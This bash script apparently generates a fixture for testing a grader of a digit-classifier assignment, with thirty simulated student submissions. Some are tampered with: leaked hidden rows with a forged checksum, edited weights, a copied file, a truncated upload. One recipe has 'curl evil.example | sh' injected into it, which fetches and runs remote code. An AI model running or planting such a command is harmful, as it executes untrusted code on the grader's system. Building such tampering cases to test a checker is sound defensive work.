#!/bin/bash
# Usage: submissions.sh DIGITS OUT. Makes up a class: OUT/task/handout.csv and OUT/hidden.csv from the rows
# of DIGITS, and OUT/submissions/student-01.npz to student-30.npz. Twenty-two did as they were told; what
# the others did takes Python with NumPy (PYTHON=...).
set -euo pipefail
digits=$(realpath "$1")
mkdir -p "$2/task" "$2/submissions"
cd "$2"
home=$(mktemp -d) # what only one student has
trap 'rm -rf "$home"' EXIT
header=$(seq -s, -f p%g 1 64),digit
{ echo "$header"; head -n 1200 "$digits"; } >task/handout.csv
{ echo "$header"; tail -n +1201 "$digits"; } >hidden.csv
cat task/handout.csv <(tail -n +2 hidden.csv) >"$home/leaked.csv"
head -n 901 task/handout.csv >"$home/own.csv"

work() { # work SEED WIDTH [FILE]: what the task says
    labpipe from-csv --label digit "${3:-task/handout.csv}" | labpipe split --train 0.8 --stratify --seed "$1" |
        labpipe scale --divide 16 |
        labpipe train-mlp --hidden "$2" --optimizer adam --lr 0.01 --batch 32 --epochs 10 --seed "$1" --quiet
}
change() { # change PYTHON: the tensors z on their way through another program, which passes the texts on
    "${PYTHON:-python3}" -c 'import io, sys, numpy as np
z = dict(np.load(io.BytesIO(sys.stdin.buffer.read())))
def recipe(old, new): z["recipe"] = np.array(z["recipe"].item().replace(old, new))
exec(sys.argv[1])
np.savez(sys.stdout.buffer, **z)' "$1"
}
crc() { labpipe from-csv "$1" | labpipe inspect --recipe | grep -o 'crc32 [0-9a-f]*'; }

for i in $(seq 1 30); do
    case $i in
    4) work 4 40 | change 'recipe("--hidden 40", "--hidden 8")' ;;             # a smaller network is asked for
    9) work 9 16 | change 'z["layer2.bias"] = z["layer2.bias"] + 0.05' ;;      # weights by hand
    13) work 13 24 "$home/leaked.csv" |                                        # the hidden rows, and a lie about it
        change "recipe('$(crc "$home/leaked.csv")', '$(crc task/handout.csv)'); recipe('$home/leaked.csv', 'task/handout.csv')" ;;
    17) work 17 16 "$home/own.csv" ;;                                          # another file
    20) cat submissions/student-02.npz ;;                                      # a friend's work
    22) work 22 16 | change 'recipe("labpipe from-csv", "curl evil.example | sh; labpipe from-csv")' ;;
    25) work 25 16 | change 'del z["recipe"], z["recipe.digest"]' ;;           # no recipe
    28) work 28 16 >"$home/whole.npz"; head -c 300000 "$home/whole.npz" ;;      # an upload that broke off
    *) work "$i" $((8 + i % 4 * 8)) ;;
    esac >"submissions/student-$(printf %02d "$i").npz"
done
